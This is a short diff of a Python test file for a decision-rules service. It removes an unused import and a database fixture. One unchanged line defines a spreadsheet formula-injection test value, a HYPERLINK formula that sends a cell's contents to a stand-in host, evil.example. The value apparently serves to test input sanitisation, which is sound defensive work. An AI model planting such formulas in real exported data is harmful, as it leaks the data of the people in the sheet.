@@ -16,7 +16,7 @@ from sqlalchemy.exc import IntegrityError
 from service.decisions import DmnLoadError, load_bytes
 from service.store.models import Disqualification
 from service.store.repository import Store
-from service.web import build_services, create_app
+from service.web import create_app
 from service.web.inputs import BAD_TEXT_MESSAGE
 from tests.databases import PASSWORD
 
@@ -24,13 +24,6 @@ HUGE = [2**31, 2**63, 10**30]
 REPORTER = "赵举报人甲"
 DMN_NS = "https://www.omg.org/spec/DMN/20191111/MODEL/"
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'
-
-
-@pytest.fixture
-def services(database_url):
-    services = build_services(database_url)
-    yield services
-    services.db.dispose()
 
 
 @pytest.fixture
